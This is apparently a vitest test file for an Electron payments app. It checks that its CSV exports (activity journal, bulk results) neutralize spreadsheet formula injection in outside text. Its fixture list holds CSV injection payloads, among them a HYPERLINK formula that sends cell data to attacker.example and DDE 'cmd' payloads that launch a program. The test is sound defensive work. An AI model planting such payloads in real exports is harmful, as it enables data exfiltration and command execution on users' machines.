/**
 * CSV injection: every export neutralizes a cell a spreadsheet would run as a formula. Text in
 * these files comes from outside (order numbers and customer names from RetailCRM, UAPAY's
 * messages), so each exporter is checked with hostile text, not only the shared function.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { batchToCsv } from '../../electron/core/bulk/csv';
import { neutralizeCell, toCsv } from '../../electron/core/csvExport';
import { entriesToCsv } from '../../electron/core/journal/view';
import type { BulkStatus } from '../../electron/shared/channels/bulk';
import type { JournalEntry } from '../../electron/shared/channels/journal';
import { kopiyky } from '../../electron/shared/money';

const HOSTILE = [
  '=HYPERLINK("https://attacker.example/?d="&A1,"Open")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
];

/** The cells of a CSV text (the BOM and the header row dropped). */
function cells(text: string): string[][] {
  return (parse(text.replace(/^\uFEFF/, ''), { relaxQuotes: false }) as string[][]).slice(1);
}

describe('CSV exports', () => {
  it('neutralizes each formula start, and leaves plain text and plain numbers alone', () => {
    for (const value of HOSTILE) expect(neutralizeCell(value)).toBe(`'${value}`);
    for (const value of ['Olena', '1234.50', '-12.50', '0', 'A-1', 'shop@example.com', ''])
      expect(neutralizeCell(value)).toBe(value);
    expect(cells(toCsv(['a', 'b'], [['=1+1', 42]]))).toEqual([["'=1+1", '42']]);
  });

  it('the Activity export neutralizes text from outside', () => {
    const entries: JournalEntry[] = HOSTILE.map((text, index) => ({
      opId: `op-${index}`,
      kind: 'confirm',
      at: '2026-05-06T09:00:00.000Z',
      osUser: 'olena',
      managerName: text,
      orderId: 100 + index,
      orderNumber: text,
      paymentId: 7,
      amount: kopiyky(12_345),
      outcome: 'failed',
      error: { kind: 'uapay', code: '=cmd', message: text },
      steps: [],
    }));
    const rows = cells(entriesToCsv(entries));
    expect(rows).toHaveLength(HOSTILE.length);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows[0]?.[2]).toBe(`'${HOSTILE[0]}`);
    expect(rows[0]?.[7]).toBe('123.45');
  });

  it('the bulk result export neutralizes text from outside', () => {
    const batch = {
      batchId: '4f1c2d3e-0000-4000-8000-000000000001',
      action: 'confirm',
      startedAt: '2026-05-06T09:00:00.000Z',
      rows: HOSTILE.map((text, index) => ({
        paymentId: index + 1,
        orderId: index + 1,
        orderNumber: text,
        amount: kopiyky(100),
        outcome: 'failed',
        error: { kind: 'uapay', message: text },
      })),
    } as unknown as BulkStatus;
    const rows = cells(batchToCsv(batch).text);
    expect(rows).toHaveLength(HOSTILE.length);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows[3]?.[0]).toBe(`'${HOSTILE[3]}`);
  });
});
